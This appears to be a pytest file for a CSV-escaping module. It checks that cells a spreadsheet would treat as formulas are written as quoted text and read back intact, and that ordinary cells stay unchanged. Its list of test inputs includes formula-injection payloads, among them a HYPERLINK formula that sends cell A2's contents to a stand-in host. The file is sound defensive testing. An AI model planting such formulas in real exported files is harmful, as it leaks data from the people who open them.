"""Every CSV the appliance writes: a cell that a spreadsheet would run as a formula is
written as text (issue 12, F4)."""

from __future__ import annotations

import csv
import io

import pytest

from appliance.common.csvsafe import FORMULA_STARTS, safe_cell, safe_writer, unescape_cell

HOSTILE = ['=HYPERLINK("http://x/?"&A2,"answer")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_written_as_text_and_read_back_exactly(cell):
    out = io.StringIO()
    safe_writer(out).writerow([cell, 0.5, "plain"])
    written = next(csv.reader(io.StringIO(out.getvalue())))
    assert written[0] == "'" + cell and written[1:] == ["0.5", "plain"]
    assert unescape_cell(written[0]) == cell


def test_harmless_cells_are_unchanged():
    for cell in ["解方程 2x+3=13", "x = -1", "'quoted", "", 3, None]:
        assert safe_cell(cell) == cell
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
